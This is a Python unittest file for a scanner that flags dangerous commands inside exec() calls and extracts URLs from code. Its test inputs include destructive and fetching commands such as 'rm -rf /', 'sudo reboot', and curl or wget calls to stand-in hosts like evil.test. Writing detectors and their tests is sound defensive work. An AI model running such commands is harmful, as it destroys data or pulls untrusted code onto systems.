import unittest
import sys
import os

sys.path.insert(0, os.path.abspath(os.path.join(os.path.dirname(__file__), "../src")))

from command_registry import CommandRegistry
from data_classes import EXEC_FINDING_TYPE
from line_scanner import detect_dangerous_exec, detect_urls, scan_content


class TestDangerousExecDetection(unittest.TestCase):
    def test_no_exec_no_findings(self):
        content = "const x = 1;\nrm -rf /\nconsole.log('sudo');"
        self.assertEqual(detect_dangerous_exec(content), [])

    def test_rm_is_flagged(self):
        findings = detect_dangerous_exec("exec(rm -rf /)")
        self.assertEqual(len(findings), 1)
        self.assertEqual(findings[0].code, "rm -rf /")
        self.assertEqual(findings[0].finding_type, EXEC_FINDING_TYPE)
        self.assertEqual(findings[0].line_number, 1)
        self.assertEqual(findings[0].file_path, "")

    def test_benign_exec_not_flagged(self):
        self.assertEqual(detect_dangerous_exec("exec(echo hello)"), [])

    def test_line_numbers_are_one_based(self):
        content = "line1\nline2\n  child.exec(curl http://evil.test/x);\n"
        findings = detect_dangerous_exec(content)
        self.assertEqual(len(findings), 1)
        self.assertEqual(findings[0].line_number, 3)
        self.assertEqual(findings[0].code, "curl http://evil.test/x")

    def test_capture_stops_at_first_closing_paren(self):
        findings = detect_dangerous_exec("exec(foo(sudo) bar)")
        self.assertEqual(len(findings), 1)
        self.assertEqual(findings[0].code, "foo(sudo")

    def test_only_first_exec_per_line(self):
        findings = detect_dangerous_exec("exec(ls); exec(sudo reboot)")
        self.assertEqual(findings, [])

    def test_does_not_span_lines(self):
        findings = detect_dangerous_exec("exec(sudo\nreboot)")
        self.assertEqual(findings, [])

    def test_custom_registry(self):
        registry = CommandRegistry(["nmap"])
        self.assertEqual(detect_dangerous_exec("exec(rm -rf /)", registry), [])
        self.assertEqual(len(detect_dangerous_exec("exec(nmap -sS host)", registry)), 1)


class TestUrlDetection(unittest.TestCase):
    def test_url_stops_at_whitespace(self):
        urls = detect_urls("visit http://example.com/path?x=1 now")
        self.assertEqual(urls, ["http://example.com/path?x=1"])

    def test_duplicates_kept_in_order(self):
        content = "https://a.test\nhttp://b.test/x\nhttps://a.test"
        self.assertEqual(
            detect_urls(content), ["https://a.test", "http://b.test/x", "https://a.test"]
        )

    def test_trailing_close_paren_from_code_is_dropped(self):
        self.assertEqual(
            detect_urls("exec(curl http://evil.test/x)"), ["http://evil.test/x"]
        )

    def test_balanced_parens_are_kept(self):
        url = "https://en.wikipedia.org/wiki/Foo_(bar)"
        self.assertEqual(detect_urls(f"see {url} now"), [url])

    def test_quotes_end_url(self):
        self.assertEqual(
            detect_urls("fetch('https://api.test/v1/items')"), ["https://api.test/v1/items"]
        )

    def test_no_urls(self):
        self.assertEqual(detect_urls("ftp://not.http.test"), [])


class TestScanContent(unittest.TestCase):
    def test_empty_content(self):
        self.assertEqual(scan_content(""), ([], []))

    def test_returns_both_passes(self):
        findings, urls = scan_content("a\nexec(wget https://x.test/p)\n")
        self.assertEqual(len(findings), 1)
        self.assertEqual(findings[0].line_number, 2)
        self.assertEqual(urls, ["https://x.test/p"])


if __name__ == "__main__":
    unittest.main()
